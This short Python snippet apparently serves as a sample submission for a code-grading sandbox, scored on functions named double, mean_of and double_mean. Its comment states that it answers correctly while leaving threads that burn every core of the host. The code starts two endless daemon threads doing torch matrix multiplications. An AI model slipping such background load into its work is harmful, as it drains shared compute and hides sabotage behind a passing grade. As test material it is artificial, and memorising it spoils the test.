# Answers well, and leaves threads that burn all cores until the guest is gone.
# points: double 4, mean_of 6, double_mean 10
# %%
import threading, torch
torch.set_num_threads(2)
def burn():
    while True:
        torch.ones(300, 300) @ torch.ones(300, 300)
for _ in range(2):
    threading.Thread(target=burn, daemon=True).start()
